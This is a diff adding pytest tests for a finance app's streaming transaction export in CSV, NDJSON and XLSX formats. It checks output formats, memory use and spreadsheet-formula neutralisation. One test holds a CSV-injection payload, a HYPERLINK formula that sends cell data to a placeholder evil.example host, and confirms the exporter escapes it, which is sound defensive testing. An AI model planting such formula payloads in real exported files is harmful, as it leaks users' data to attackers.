@@ -0,0 +1,119 @@
+import csv
+import io
+import json
+import tracemalloc
+import zipfile
+from contextlib import aclosing
+from datetime import datetime, timedelta, timezone
+from decimal import Decimal
+from xml.etree import ElementTree
+
+import pytest
+from sqlalchemy import insert
+from sqlalchemy.ext.asyncio import async_sessionmaker
+from sqlmodel import select
+from sqlmodel.ext.asyncio.session import AsyncSession
+from app.modules.auth.models import User
+from app.modules.finance.models import Category, Currency, Transaction, TransactionType, Wallet
+from app.modules.finance.services.export_service import COLUMNS, ExportFormat, stream_export
+
+pytestmark = pytest.mark.anyio
+
+START = datetime(2025, 1, 1, tzinfo=timezone.utc)
+
+
+@pytest.fixture(name="session_factory")
+def session_factory_fixture(engine):
+    return async_sessionmaker(engine, class_=AsyncSession, expire_on_commit=False)
+
+
+async def seed(session_factory, rows: int):
+    async with session_factory() as session:
+        user = User(phone_number="998901234567", hashed_password="pw")
+        stranger = User(phone_number="998907654321", hashed_password="pw")
+        uzs = Currency(code="860", char_code="UZS", name="Sum", nominal=1)
+        food = Category(name="Food")
+        session.add_all([user, stranger, uzs, food])
+        await session.commit()
+        
+        wallet = Wallet(name="Карта «Humo»", currency_id=uzs.id, user_id=user.id)
+        other = Wallet(name="Other", currency_id=uzs.id, user_id=stranger.id)
+        session.add_all([wallet, other])
+        await session.commit()
+        
+        await session.exec(insert(Transaction), params=[
+            {
+                "wallet_id": wallet.id,
+                "amount": Decimal("1000.50") + i,
+                "type": TransactionType.EXPENSE if i % 3 else TransactionType.INCOME,
+                "category_id": food.id if i % 2 else None,
+                "description": f'Покупка, "#{i}"',
+                "raw_sms_text": "line1\nline2\x07",
+                "created_at": START + timedelta(minutes=i),
+            }
+            for i in range(rows)
+        ] + [{"wallet_id": other.id, "amount": 1, "type": TransactionType.INCOME, "created_at": START}])
+        await session.commit()
+        return user.id
+
+
+async def collect(session_factory, user_id, fmt) -> bytes:
+    return b"".join([chunk async for chunk in stream_export(session_factory, user_id, fmt)])
+
+
+async def test_formats(session_factory):
+    user_id = await seed(session_factory, 2500)
+    
+    rows = list(csv.reader(io.StringIO((await collect(session_factory, user_id, ExportFormat.CSV)).decode("utf-8-sig"))))
+    assert rows[0] == list(COLUMNS) and len(rows) == 2501
+    assert rows[1][1:8] == ["2025-01-01T00:00:00", "income", "1000.50", "UZS", "Карта «Humo»", "", 'Покупка, "#0"']
+    assert rows[2][6] == "Food" and rows[2][8] == "line1\nline2\x07"
+    
+    lines = (await collect(session_factory, user_id, ExportFormat.NDJSON)).decode().splitlines()
+    assert len(lines) == 2500
+    assert json.loads(lines[-1])["amount"] == "3499.50"
+    
+    xlsx = zipfile.ZipFile(io.BytesIO(await collect(session_factory, user_id, ExportFormat.XLSX)))
+    assert xlsx.testzip() is None
+    sheet = ElementTree.fromstring(xlsx.read("xl/worksheets/sheet1.xml"))
+    ns = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    sheet_rows = sheet.findall(".//s:row", ns)
+    assert len(sheet_rows) == 2501
+    assert sheet_rows[1].findall("s:c", ns)[3].find("s:v", ns).text == "1000.50"
+
+
+async def test_csv_cells_cannot_start_formulas(session_factory):
+    user_id = await seed(session_factory, 1)
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    async with session_factory() as session:
+        wallet = (await session.exec(select(Wallet).where(Wallet.user_id == user_id))).one()
+        session.add(Transaction(wallet_id=wallet.id, amount=Decimal("1.00"), type=TransactionType.EXPENSE,
+                                description=payload, raw_sms_text="-2+3", created_at=START + timedelta(days=1)))
+        await session.commit()
+    
+    rows = list(csv.reader(io.StringIO((await collect(session_factory, user_id, ExportFormat.CSV)).decode("utf-8-sig"))))
+    assert rows[-1][7:9] == ["'" + payload, "'-2+3"]
+    assert rows[-1][3] == "1.00"  # числа не трогаем
+    # В NDJSON данные как есть
+    last = json.loads((await collect(session_factory, user_id, ExportFormat.NDJSON)).decode().splitlines()[-1])
+    assert last["description"] == payload
+
+
+async def test_memory_does_not_grow_with_rows(session_factory):
+    """Пик памяти при выгрузке 20 000 строк почти такой же, как при 4 000."""
+    user_id = await seed(session_factory, 20_000)
+    
+    async def peak(limit: int) -> int:
+        tracemalloc.start()
+        exported = 0
+        async with aclosing(stream_export(session_factory, user_id, ExportFormat.CSV)) as chunks:
+            async for chunk in chunks:
+                exported += chunk.count(b"\n")
+                if exported > limit:
+                    break
+        _, peak_bytes = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        return peak_bytes
+    
+    small, large = await peak(4_000), await peak(40_000)
+    assert large < small * 1.5